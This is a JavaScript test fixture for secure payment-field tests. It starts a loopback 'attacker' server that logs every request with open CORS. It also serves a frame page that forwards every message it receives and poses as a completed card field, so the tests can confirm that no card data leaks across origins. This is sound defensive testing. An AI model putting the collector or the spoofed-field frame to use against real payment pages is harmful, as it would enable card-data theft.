// An attacker's server for the secure-field attack tests: a second origin on loopback that records every request it
// gets, so a test can prove that no card data reached it. Every path answers 200 with CORS open, as an attacker's
// collector would. `GET /__log?run=ID` lists what requests under `/ID/` carried; `/ID/frame.html` is a page that
// reports every message it is sent and poses as a ready field (a frame an injected element could point at).
import { createServer } from 'node:http';

const frameHtml = `<!doctype html><meta charset="utf-8"><script>
const report = (what) => fetch(location.pathname.replace(/frame\\.html$/, 'message'), { method: 'POST', body: JSON.stringify(what) });
addEventListener('message', (event) => {
  report({ via: 'window', data: event.data, ports: event.ports.length });
  for (const port of event.ports) {
    port.onmessage = (e) => report({ via: 'port', data: e.data });
    // Pose as a ready, complete field, to be taken into the group.
    port.postMessage({ event: 'ready' });
    port.postMessage({ event: 'state', state: { elementType: event.data?.kind ?? 'cardcvv', empty: false, complete: true, brand: 'visa', focused: false, autofilled: false } });
  }
});
</script>`;

/** Listens on 127.0.0.1 at `port` (any free one by default); resolves to its origin. */
export function startAttackerServer(port = 0) {
  const records = [];
  const server = createServer((req, res) => {
    const url = new URL(req.url ?? '/', 'http://attacker');
    const cors = { 'Access-Control-Allow-Origin': '*', 'Access-Control-Allow-Headers': '*', 'Access-Control-Allow-Methods': '*' };
    if (url.pathname === '/__log') {
      const run = `/${url.searchParams.get('run')}/`;
      res.writeHead(200, { ...cors, 'Content-Type': 'application/json' }).end(JSON.stringify(records.filter((r) => r.path.startsWith(run))));
      return;
    }
    if (url.pathname.endsWith('/frame.html')) {
      res.writeHead(200, { 'Content-Type': 'text/html' }).end(frameHtml);
      return;
    }
    let body = '';
    req.on('data', (chunk) => (body += chunk).length > 1e6 && req.destroy());
    req.on('end', () => {
      if (req.method !== 'OPTIONS') records.push({ method: req.method, path: url.pathname, headers: req.headers, body });
      res.writeHead(200, { ...cors, 'Content-Type': 'application/json' }).end('{}');
    });
  });
  return new Promise((resolve) => server.listen(port, '127.0.0.1', () => {
    server.unref();
    resolve(`http://127.0.0.1:${server.address().port}`);
  }));
}
